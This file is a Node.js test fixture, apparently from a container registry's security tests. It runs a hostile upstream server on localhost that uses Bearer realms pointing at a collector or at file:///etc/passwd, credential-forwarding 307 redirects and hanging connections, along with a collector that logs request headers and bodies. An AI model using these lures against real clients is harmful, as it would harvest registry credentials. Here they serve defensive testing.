// A hostile peer for tests/security/parts/upstream.sh: an upstream registry
// (or replication target, or webhook receiver) that lies and misdirects,
// and a collector on another port that records whatever reaches it.
//
// The upstream port answers by the first component of the repository:
//   lying/...      HEAD of any blob: 200 (it has none: GET is 404); no manifests
//   collector/...  401 Bearer, realm on the collector's port (credentials bait)
//   file/...       401 Bearer, realm file:///etc/passwd
//   redirect/...   401 Basic until credentials come, then every GET and HEAD
//                  is a 307 to the collector (manifests and blobs)
//   /hook          any POST: a 307 to the collector
//   /blackhole     never answers (counts connections held open)
//   /_stats        JSON: open and most open /blackhole requests, requests seen
// The collector answers 200 to everything (a token, for a token request)
// and appends one JSON line per request to FILE: method, URL, headers.
// Prints {"upstream": PORT, "collector": PORT} once both listen.
// Usage: node hostile-upstream.mjs FILE
import fs from "node:fs";
import http from "node:http";

const [file] = process.argv.slice(2);
fs.writeFileSync(file, "");
const stats = { open: 0, maxOpen: 0, blackholed: 0, requests: 0 };
let collectorPort = 0;

const json = (res, status, body, headers = {}) => {
  res.writeHead(status, { "content-type": "application/json", ...headers });
  res.end(JSON.stringify(body));
};
const unauthorized = (res, challenge) =>
  json(res, 401, { errors: [{ code: "UNAUTHORIZED", message: "credentials, please" }] }, { "www-authenticate": challenge });

const upstream = http.createServer((req, res) => {
  stats.requests += 1;
  const url = new URL(req.url, "http://upstream");
  if (url.pathname === "/_stats") return json(res, 200, stats);
  if (url.pathname === "/blackhole") {
    // Hold the request open for good; count it while it is.
    stats.open += 1;
    stats.blackholed += 1;
    stats.maxOpen = Math.max(stats.maxOpen, stats.open);
    res.on("close", () => (stats.open -= 1));
    req.resume();
    return;
  }
  if (url.pathname === "/hook") {
    req.resume();
    res.writeHead(307, { location: `http://127.0.0.1:${collectorPort}/hook-stolen` });
    return res.end();
  }
  if (url.pathname === "/v2/" || url.pathname === "/v2") return json(res, 200, {});
  const repo = url.pathname.split("/")[2];
  const isBlob = /\/blobs\/sha256:[0-9a-f]{64}$/.test(url.pathname);
  switch (repo) {
    case "lying":
      if (isBlob && req.method === "HEAD") {
        res.writeHead(200, { "content-length": "1234", "content-type": "application/octet-stream" });
        return res.end();
      }
      return json(res, 404, { errors: [{ code: isBlob ? "BLOB_UNKNOWN" : "MANIFEST_UNKNOWN", message: "no" }] });
    case "collector":
      return unauthorized(res, `Bearer realm="http://127.0.0.1:${collectorPort}/token",service="bait"`);
    case "file":
      return unauthorized(res, `Bearer realm="file:///etc/passwd",service="bait"`);
    case "redirect":
      if (!req.headers.authorization) return unauthorized(res, `Basic realm="hostile"`);
      res.writeHead(307, { location: `http://127.0.0.1:${collectorPort}/stolen${url.pathname}` });
      return res.end();
    default:
      return json(res, 404, { errors: [{ code: "NAME_UNKNOWN", message: "no" }] });
  }
});

const collector = http.createServer((req, res) => {
  const chunks = [];
  req.on("data", (chunk) => chunks.push(chunk));
  req.on("end", () => {
    const body = Buffer.concat(chunks).toString("utf8");
    fs.appendFileSync(file, JSON.stringify({ method: req.method, url: req.url, headers: req.headers, body }) + "\n");
    json(res, 200, { token: "collected", access_token: "collected", expires_in: 300 });
  });
});

upstream.listen(0, "127.0.0.1", () =>
  collector.listen(0, "127.0.0.1", () => {
    collectorPort = collector.address().port;
    console.log(JSON.stringify({ upstream: upstream.address().port, collector: collectorPort }));
  }),
);
